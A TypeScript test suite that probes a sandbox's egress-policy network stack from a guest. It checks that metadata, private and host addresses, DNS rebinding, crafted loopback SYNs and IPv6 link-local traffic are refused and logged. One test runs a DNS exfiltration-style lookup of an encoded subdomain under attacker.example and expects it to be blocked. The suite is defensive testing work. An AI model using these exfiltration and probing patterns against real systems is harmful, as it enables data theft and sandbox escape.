import net from "node:net";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { networkInterfaces } from "node:os";
import { type DenialEvent, type EgressPolicyOptions, ipToString, parseIp } from "../src/index.js";
import { startDnsmasq } from "./dns-server.js";
import { harnessUnavailable, startGuest } from "./harness.js";
import { LocalTargets } from "./local-targets.js";

const skip = harnessUnavailable();
if (skip) console.warn(`SKIP policy harness tests: ${skip}`);
const guestScript = (name: string) => fileURLToPath(new URL(`./guest/${name}`, import.meta.url));

async function listen(host: string): Promise<net.Server> {
  const s = net.createServer((sock) => {
    sock.on("error", () => {});
    sock.end("hello\n");
  });
  await new Promise<void>((r) => s.listen(0, host, () => r()));
  return s;
}
const portOf = (s: net.Server) => (s.address() as net.AddressInfo).port;
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/**
 * One AnyIP address in each IPv4 special-purpose range, local to this machine (see
 * local-targets.ts), and the builtin rule that must refuse it. A listener on 0.0.0.0 answers on
 * every one of them, so a broken defence shows up as a successful connection.
 */
const SPECIAL: Array<[string, string]> = [
  ["0.0.0.77", "builtin:this-network (0.0.0.0/8)"],
  ["10.213.77.9", "builtin:private-10 (10.0.0.0/8)"],
  ["100.64.77.9", "builtin:shared-address-space (100.64.0.0/10)"],
  ["100.100.100.200", "builtin:metadata (100.100.100.200/32)"],
  ["169.254.77.9", "builtin:link-local (169.254.0.0/16)"],
  ["172.29.77.9", "builtin:private-172 (172.16.0.0/12)"],
  ["192.0.0.77", "builtin:ietf-protocol-assignments (192.0.0.0/24)"],
  ["192.0.2.231", "builtin:documentation (192.0.2.0/24)"],
  ["192.31.196.77", "builtin:amt (192.31.196.0/24)"],
  ["192.52.193.77", "builtin:as112-v4 (192.52.193.0/24)"],
  ["192.88.99.77", "builtin:6to4-relay-anycast (192.88.99.0/24)"],
  ["192.168.213.9", "builtin:private-192 (192.168.0.0/16)"],
  ["192.175.48.77", "builtin:direct-delegation-as112 (192.175.48.0/24)"],
  ["198.18.213.9", "builtin:benchmarking (198.18.0.0/15)"],
  ["198.51.100.77", "builtin:documentation (198.51.100.0/24)"],
  ["203.0.113.77", "builtin:documentation (203.0.113.0/24)"],
  ["240.0.0.77", "builtin:reserved (240.0.0.0/4)"],
];
/** Interface addresses added by the test, in a range the test's policy explicitly opens (/24). */
const HOST_ADDR = "198.19.213.1";
const HOST_NEIGHBOUR = "198.19.213.9";
/** Names for the DNS tests and the (local) addresses they resolve to. */
const ALLOWED_ADDR = "198.51.100.88";
const OTHER_ADDR = "198.51.100.89";
const DENY_RANGE_IN = "10.213.5.9";
const DENY_RANGE_OUT = "10.213.6.9";

type Outcome = { target: string; outcome: string; code?: string; ms: number };

describe.skipIf(skip)("egress policy attacks from a real guest", () => {
  let server: net.Server;
  let engine: net.Server;
  let other: net.Server;
  let targets: LocalTargets | undefined;
  let dns: Awaited<ReturnType<typeof startDnsmasq>>;
  const envs: Array<Awaited<ReturnType<typeof startGuest>>> = [];

  beforeAll(async () => {
    server = await listen("0.0.0.0");
    engine = await listen("127.0.0.1");
    other = await listen("127.0.0.1");
    dns = await startDnsmasq([
      `--host-record=allowed.test,${ALLOWED_ADDR}`,
      `--host-record=other.test,${OTHER_ADDR}`,
      `--host-record=rebind.test,${HOST_ADDR}`,
    ]);
  });
  afterAll(async () => {
    for (const e of envs) await e.close().catch(() => {});
    targets?.close();
    await dns?.close();
    server?.close();
    engine?.close();
    other?.close();
  });

  const guest = async (policy: EgressPolicyOptions) => {
    const env = await startGuest({ policy, dns: { upstreams: [dns.address] }, limits: { connectTimeoutMs: 2000 } });
    envs.push(env);
    const denials: DenialEvent[] = [];
    env.stack.on("denied", (d) => denials.push(d));
    const probe = async (hosts: string[], port = portOf(server)): Promise<Outcome[]> => {
      const r = await env.guest.exec([process.execPath, guestScript("connect-many.mjs"), "3000", ...hosts.map((h) => `${h}:${port}`)]);
      return JSON.parse(r.stdout.trim()) as Outcome[];
    };
    const dig = async (name: string) => (await env.guest.sh(`dig +time=2 +tries=1 @${ipToString(env.stack.addresses.gatewayIp)} ${name} A`)).stdout;
    return { env, denials, probe, dig, gw: ipToString(env.stack.addresses.gatewayIp) };
  };
  const refusedFast = (o: Outcome) => {
    expect(o, o.target).toMatchObject({ outcome: "error", code: "ECONNREFUSED" });
    expect(o.ms, o.target).toBeLessThan(200);
  };
  const loggedBy = (logs: string[], dst: string, rule: string) =>
    expect(logs.some((l) => l.startsWith("policy: denied tcp ") && l.endsWith(`-> ${dst} by ${rule}`)), `${dst} by ${rule}\n${logs.join("\n")}`).toBe(true);

  test("setup: the local targets exist after the stack started (the host address list is refreshed)", async () => {
    // Stack first, so its host address list predates the new interface address.
    const g = await guest({ hostPorts: [portOf(engine)] });
    targets = LocalTargets.create({
      hostAddresses: [HOST_ADDR],
      localRoutes: [...SPECIAL.map(([a]) => a), HOST_NEIGHBOUR, ALLOWED_ADDR, OTHER_ADDR, DENY_RANGE_IN, DENY_RANGE_OUT],
    });
    // Positive control: every target answers on the host itself.
    for (const a of [...SPECIAL.map(([x]) => x), HOST_ADDR, HOST_NEIGHBOUR, ALLOWED_ADDR, OTHER_ADDR]) {
      await new Promise<void>((resolve, reject) => {
        const s = net.connect({ host: a, port: portOf(server) }, () => {
          s.destroy();
          resolve();
        });
        s.once("error", (e) => reject(new Error(`${a}: ${e.message}`)));
      });
    }
    await sleep(1100);
    const [o] = await g.probe([HOST_ADDR]);
    refusedFast(o!);
    loggedBy(g.env.logs, `${HOST_ADDR}:${portOf(server)}`, `builtin:host-address (${HOST_ADDR}/32)`);
  });

  test("default policy: every special-purpose range is refused within 200 ms, logged with its range", async () => {
    const g = await guest({ hostPorts: [portOf(engine)] });
    const out = await g.probe(SPECIAL.map(([a]) => a));
    for (const [i, [a, rule]] of SPECIAL.entries()) {
      refusedFast(out[i]!);
      loggedBy(g.env.logs, `${a}:${portOf(server)}`, rule);
    }
    expect(g.denials.length).toBeGreaterThanOrEqual(SPECIAL.length);
    expect(g.denials[0]!.error.code).toBe("PolicyDenied");
  });

  test("allow 0.0.0.0/0 opens none of them either", async () => {
    const g = await guest({ hostPorts: [portOf(engine)], rules: [{ action: "allow", cidr: "0.0.0.0/0", name: "allow everything" }] });
    const out = await g.probe(SPECIAL.map(([a]) => a));
    for (const [i, [a, rule]] of SPECIAL.entries()) {
      refusedFast(out[i]!);
      loggedBy(g.env.logs, `${a}:${portOf(server)}`, rule);
    }
  });

  test("the host's own addresses are refused, even inside a range an allow rule opens", async () => {
    // 127/8 never leaves a Linux guest (its own loopback); "a guest kernel that lies" covers it.
    const mine = Object.values(networkInterfaces())
      .flat()
      .filter((a) => a && a.family === "IPv4" && a.address !== HOST_ADDR && !a.address.startsWith("127."))
      .map((a) => a!.address);
    expect(mine.length).toBeGreaterThan(0);
    const g = await guest({
      hostPorts: [portOf(engine)],
      rules: [
        { action: "allow", cidr: "198.19.213.0/24", name: "allow test range" },
        ...mine.map((a) => ({ action: "allow" as const, cidr: `${a}/31`, name: `allow ${a}/31` })),
      ],
    });
    const out = await g.probe([HOST_ADDR, ...mine, HOST_NEIGHBOUR]);
    for (const [i, a] of [HOST_ADDR, ...mine].entries()) {
      refusedFast(out[i]!);
      loggedBy(g.env.logs, `${a}:${portOf(server)}`, `builtin:host-address (${a}/32)`);
    }
    // The neighbour is not a host address: the allow rule really opened the range.
    expect(out.at(-1)).toMatchObject({ target: `${HOST_NEIGHBOUR}:${portOf(server)}`, outcome: "connected" });
    // With the default policy too.
    const d = await guest({ hostPorts: [portOf(engine)] });
    for (const o of await d.probe(mine)) refusedFast(o);
  });

  test("hostPorts:[P] opens exactly P on the gateway and nothing else", async () => {
    const g = await guest({ hostPorts: [portOf(engine)], rules: [{ action: "allow", cidr: "0.0.0.0/0" }] });
    const [ok] = await g.probe([g.gw], portOf(engine));
    expect(ok).toMatchObject({ outcome: "connected" });
    for (const port of [portOf(other), portOf(server), 22, 49134]) {
      const [o] = await g.probe([g.gw], port);
      refusedFast(o!);
      loggedBy(g.env.logs, `${g.gw}:${port}`, "builtin:host-port-not-allowed");
    }
    const [lo] = await g.probe(["127.0.0.1"], portOf(engine));
    refusedFast(lo!);
  });

  test("a denied UDP flow gets ICMP unreachable at once and a log line", async () => {
    const g = await guest({ hostPorts: [portOf(engine)] });
    const r = await g.env.guest.exec([process.execPath, guestScript("udp-probe.mjs"), "169.254.77.9", "123"]);
    const out = JSON.parse(r.stdout.trim()) as { replies: string[]; error: string | null };
    expect(out.replies).toEqual([]);
    expect(["EHOSTUNREACH", "ECONNREFUSED"]).toContain(out.error);
    expect(g.env.logs.some((l) => l.includes("denied udp") && l.includes("169.254.77.9:123 by builtin:link-local (169.254.0.0/16)"))).toBe(true);
  });

  test("mode none + allow name:port: that name resolves and connects; other names REFUSED, other addresses refused", async () => {
    const g = await guest({ mode: "none", hostPorts: [portOf(engine)], rules: [{ action: "allow", domain: "allowed.test", ports: portOf(server), protocol: "tcp", name: "allow allowed.test" }] });
    // Before resolution the address is closed.
    refusedFast((await g.probe([ALLOWED_ADDR]))[0]!);
    const a = await g.dig("allowed.test");
    expect(a).toContain("status: NOERROR");
    expect(a).toContain(ALLOWED_ADDR);
    expect((await g.probe([ALLOWED_ADDR]))[0]).toMatchObject({ outcome: "connected" });
    // Another port of the same address stays closed.
    refusedFast((await g.probe([ALLOWED_ADDR], portOf(other)))[0]!);
    for (const name of ["other.test", "exfil-6c6561.attacker.example", "rebind.test"]) {
      expect(await g.dig(name)).toContain("status: REFUSED");
      expect(g.env.logs.some((l) => l.includes(`dns: REFUSED ${name} A (denied by mode:none (no allow rule names it))`))).toBe(true);
    }
    const out = await g.probe([OTHER_ADDR, HOST_NEIGHBOUR, DENY_RANGE_OUT]);
    for (const o of out) refusedFast(o);
    loggedBy(g.env.logs, `${OTHER_ADDR}:${portOf(server)}`, "builtin:documentation (198.51.100.0/24)");
    // The gateway's host port still works.
    expect((await g.probe([g.gw], portOf(engine)))[0]).toMatchObject({ outcome: "connected" });
  });

  test("rule order does not matter: deny 0.0.0.0/0 listed first does not shadow allow name:port", async () => {
    for (const order of ["deny-first", "allow-first"]) {
      const deny = { action: "deny" as const, cidr: "0.0.0.0/0", name: "deny everything" };
      const allow = { action: "allow" as const, domain: "allowed.test", ports: portOf(server), name: "allow allowed.test" };
      const g = await guest({ hostPorts: [portOf(engine)], rules: order === "deny-first" ? [deny, allow] : [allow, deny] });
      expect(await g.dig("allowed.test")).toContain(ALLOWED_ADDR);
      expect((await g.probe([ALLOWED_ADDR]))[0], order).toMatchObject({ outcome: "connected" });
      refusedFast((await g.probe([OTHER_ADDR]))[0]!);
    }
  });

  test("a domain rule does not open a host address its name resolves to (DNS rebinding)", async () => {
    const g = await guest({ hostPorts: [portOf(engine)], rules: [{ action: "allow", domain: "rebind.test", name: "allow rebind.test" }] });
    expect(await g.dig("rebind.test")).toContain(HOST_ADDR);
    refusedFast((await g.probe([HOST_ADDR]))[0]!);
    loggedBy(g.env.logs, `${HOST_ADDR}:${portOf(server)}`, `builtin:host-address (${HOST_ADDR}/32)`);
  });

  test("public + deny CIDR denies only that range", async () => {
    const g = await guest({
      hostPorts: [portOf(engine)],
      rules: [
        { action: "deny", cidr: "10.213.5.0/24", name: "deny 10.213.5.0/24" },
        { action: "allow", cidr: "10.213.0.0/16", name: "allow 10.213.0.0/16" },
      ],
    });
    const [inRange, outRange] = await g.probe([DENY_RANGE_IN, DENY_RANGE_OUT]);
    refusedFast(inRange!);
    loggedBy(g.env.logs, `${DENY_RANGE_IN}:${portOf(server)}`, "deny 10.213.5.0/24");
    expect(outRange).toMatchObject({ outcome: "connected" });
    // Public mode still resolves any name.
    expect(await g.dig("other.test")).toContain(OTHER_ADDR);
  });
});

describe.skipIf(skip)("a guest that sends what Linux would not, and IPv6", () => {
  let server: net.Server;
  let env: Awaited<ReturnType<typeof startGuest>>;
  beforeAll(async () => {
    server = await listen("0.0.0.0");
    env = await startGuest({ policy: { hostPorts: [1] } });
  });
  afterAll(async () => {
    await env?.close();
    server?.close();
  });

  test("a crafted SYN to host loopback (127.0.0.1, 127.1.2.3) gets RST, never a host connection", async () => {
    const accepted: string[] = [];
    server.on("connection", (s) => accepted.push(String(s.remoteAddress)));
    const { GuestFrames } = await import("./frames.js");
    const g = new GuestFrames(env.stack.addresses);
    const port = portOf(server);
    for (const dst of ["127.0.0.1", "127.1.2.3"]) {
      const before = env.stack.counters.denied;
      env.stack.injectFrame(g.tcp({ dst: parseIp(dst)!, sport: 40000, dport: port, seq: 1, flags: 0x02 }));
      expect(env.stack.counters.denied).toBe(before + 1);
      expect(env.logs.some((l) => l.endsWith(`-> ${dst}:${port} by ${dst === "127.0.0.1" ? "builtin:host-address (127.0.0.1/32)" : "builtin:loopback (127.0.0.0/8)"}`))).toBe(true);
    }
    await sleep(300);
    expect(accepted).toEqual([]);
    expect(env.stack.snapshot().filter((f) => f.remoteIp.startsWith("127."))).toEqual([]);
  });

  test("IPv6: a link-local connect is refused at once (neighbour answered, SYN gets RST), UDP gets ICMPv6", async () => {
    const tap = env.guest.tap;
    // Wait until the guest's link-local address has finished duplicate address detection.
    for (let i = 0; i < 100; i++) {
      const r = await env.guest.sh(`ip -6 addr show dev ${tap} scope link`);
      if (r.stdout.includes("fe80") && !r.stdout.includes("tentative")) break;
      await sleep(100);
    }
    const r = await env.guest.exec([process.execPath, guestScript("connect-probe.mjs"), `fe80::1%${tap}`, "80", "5000"]);
    const out = JSON.parse(r.stdout.trim()) as { outcome: string; code?: string; ms: number };
    expect(out).toMatchObject({ outcome: "error", code: "ECONNREFUSED" });
    expect(out.ms).toBeLessThan(200);
    expect(env.logs.some((l) => l.includes("policy: denied tcp [fe80::") && l.endsWith("-> [fe80::1]:80 by builtin:ipv6-not-relayed"))).toBe(true);
    const u = await env.guest.exec([process.execPath, guestScript("udp-probe.mjs"), `fe80::1%${tap}`, "123"]);
    const uo = JSON.parse(u.stdout.trim()) as { replies: string[]; error: string | null };
    expect(uo.replies).toEqual([]);
    expect(["EACCES", "EHOSTUNREACH", "ECONNREFUSED"]).toContain(uo.error);
  });
});
